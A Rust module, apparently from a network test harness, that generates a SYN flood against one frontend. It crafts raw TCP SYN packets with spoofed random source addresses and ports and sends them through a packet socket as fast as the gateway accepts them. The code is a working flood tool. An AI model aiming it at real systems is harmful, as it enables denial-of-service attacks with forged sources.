//! A flood of SYNs to one frontend from IPv4 sources and ports that are never the same, as fast as
//! the gateway's device takes them.

use crate::namespace::Namespace;
use anyhow::{Context, Result, anyhow};
use nix::errno::Errno;
use nix::ifaddrs::getifaddrs;
use nix::sys::socket::{
    AddressFamily, LinkAddr, MsgFlags, MultiHeaders, SockFlag, SockType, bind, sendmmsg, socket,
};
use std::io::IoSlice;
use std::net::SocketAddrV4;
use std::os::fd::{AsRawFd, OwnedFd};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::{JoinHandle, sleep};
use std::time::Duration;

/// Packets that are sent at a time.
const BURST: usize = 64;
/// From one round to the next. A round has a packet more than the last, or a quarter less where the
/// device had no place for all of it: a queue that is always full would lose what others send, and
/// nothing behind it would notice.
const ROUND: Duration = Duration::from_millis(1);
/// Ethernet, IPv4 and TCP with a maximum segment size.
const LENGTH: usize = 14 + 20 + 24;

type Packet = [u8; LENGTH];

/// Where a flood goes.
#[derive(Clone, Debug)]
pub struct Target {
    /// The link that it leaves by.
    pub link: String,
    /// The gateway's MAC there.
    pub mac: [u8; 6],
    /// The frontend.
    pub frontend: SocketAddrV4,
}

/// What was sent.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Sent {
    /// Packets that the device took.
    pub taken: u64,
    /// Times that its queue had no place, where the link has none before it (`noqueue`).
    pub refused: u64,
}

/// A flood that is under way. Dropped means ended.
pub struct Flood {
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<Result<Result<Sent>>>>,
}

impl Flood {
    /// Begins it.
    pub fn start(namespace: &Namespace, target: &Target) -> Self {
        let stop = Arc::new(AtomicBool::new(false));
        let (ended, target) = (Arc::clone(&stop), target.clone());
        let thread = namespace.spawn(move || send(&target, &ended));
        Self { stop, thread: Some(thread) }
    }
    /// Ends it, and gives what was sent.
    pub fn stop(mut self) -> Result<Sent> {
        self.stop.store(true, Ordering::Relaxed);
        let thread = self.thread.take().context("stopped twice")?;
        thread.join().map_err(|_| anyhow!("the flood panicked"))??
    }
}

impl Drop for Flood {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
    }
}

fn send(target: &Target, stop: &AtomicBool) -> Result<Sent> {
    let (socket, own) = open(&target.link)?;
    let mut packets = [template(target, own); BURST];
    let mut headers = MultiHeaders::preallocate(BURST, None);
    let (mut random, mut sent, mut round) = (Random(0x9e37_79b9_7f4a_7c15), Sent::default(), BURST);
    while !stop.load(Ordering::Relaxed) {
        let mut left = round;
        round += 1;
        while left > 0 {
            let some = left.min(BURST);
            packets[..some].iter_mut().for_each(|packet| vary(packet, &mut random));
            let taken = burst(&socket, &mut headers, &packets[..some])?;
            sent.taken += taken as u64;
            left -= some;
            if taken < some {
                sent.refused += 1;
                (left, round) = (0, round - round / 4);
            }
        }
        sleep(ROUND);
    }
    Ok(sent)
}

/// A socket that sends by `link`, and the link's MAC.
fn open(link: &str) -> Result<(OwnedFd, [u8; 6])> {
    let found = getifaddrs()?
        .filter(|one| one.interface_name == link)
        .find_map(|one| one.address?.as_link_addr().copied());
    let address: LinkAddr = found.with_context(|| format!("no link {link}"))?;
    // Of no protocol: it receives nothing.
    let socket = socket(AddressFamily::Packet, SockType::Raw, SockFlag::SOCK_CLOEXEC, None)?;
    bind(socket.as_raw_fd(), &address)?;
    Ok((socket, address.addr().context("a link without a MAC")?))
}

/// Sends until the device has no place; gives how many it took.
fn burst(
    socket: &OwnedFd,
    headers: &mut MultiHeaders<LinkAddr>,
    packets: &[Packet],
) -> Result<usize> {
    let slices: Vec<[IoSlice<'_>; 1]> = packets.iter().map(|one| [IoSlice::new(one)]).collect();
    let sent = sendmmsg(socket.as_raw_fd(), headers, &slices, [None; BURST], [], MsgFlags::empty());
    match sent {
        Ok(taken) => Ok(taken.count()),
        Err(Errno::ENOBUFS) => Ok(0),
        Err(error) => Err(error).context("sendmmsg"),
    }
}

/// A SYN without what changes from packet to packet.
fn template(target: &Target, own: [u8; 6]) -> Packet {
    let mut packet = [0; LENGTH];
    packet[..6].copy_from_slice(&target.mac);
    packet[6..12].copy_from_slice(&own);
    packet[12..14].copy_from_slice(&[8, 0]);
    packet[14..26].copy_from_slice(&[0x45, 0, 0, 44, 0, 0, 0x40, 0, 64, 6, 0, 0]);
    packet[30..34].copy_from_slice(&target.frontend.ip().octets());
    packet[36..38].copy_from_slice(&target.frontend.port().to_be_bytes());
    // 24 bytes of header, SYN, a window of 65,535, a maximum segment size of 1,460.
    packet[46..50].copy_from_slice(&[0x60, 2, 0xff, 0xff]);
    packet[54..58].copy_from_slice(&[2, 4, 5, 0xb4]);
    packet
}

/// Another source, port and sequence number.
fn vary(packet: &mut Packet, random: &mut Random) {
    let (one, other) = (random.next(), random.next());
    packet[26..30].copy_from_slice(&(one as u32).to_be_bytes());
    // Somewhere in 16.0.0.0/4 or 32.0.0.0/4, where nobody of ours is.
    packet[26] = 16 + packet[26] % 48;
    packet[34..36].copy_from_slice(&(1024 | (one >> 32) as u16).to_be_bytes());
    packet[38..42].copy_from_slice(&(other as u32).to_be_bytes());
    packet[24..26].fill(0);
    let header = checksum(&packet[14..34], 0);
    packet[24..26].copy_from_slice(&header);
    packet[50..52].fill(0);
    // The addresses, the protocol and the length.
    let segment = checksum(&packet[26..58], 6 + 24);
    packet[50..52].copy_from_slice(&segment);
}

fn checksum(bytes: &[u8], first: u32) -> [u8; 2] {
    let words = bytes.chunks_exact(2).map(|pair| u32::from(pair[0]) << 8 | u32::from(pair[1]));
    let sum = first + words.sum::<u32>();
    let folded = (sum & 0xffff) + (sum >> 16);
    (!(folded + (folded >> 16)) as u16).to_be_bytes()
}

/// xorshift64: no randomness is needed, but numbers that don't repeat.
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_packet_has_the_checksums_of_its_own() {
        let frontend = "203.0.113.10:80".parse().unwrap();
        let target = Target { link: String::new(), mac: [2; 6], frontend };
        let (mut packet, mut random) = (template(&target, [4; 6]), Random(1));
        vary(&mut packet, &mut random);
        let first = packet;
        vary(&mut packet, &mut random);
        assert_ne!(first[26..42], packet[26..42]);
        for packet in [first, packet] {
            assert_eq!(checksum(&packet[14..34], 0), [0, 0]);
            assert_eq!(checksum(&packet[26..58], 30), [0, 0]);
            assert_eq!(packet[46..48], [0x60, 2]);
        }
    }
}
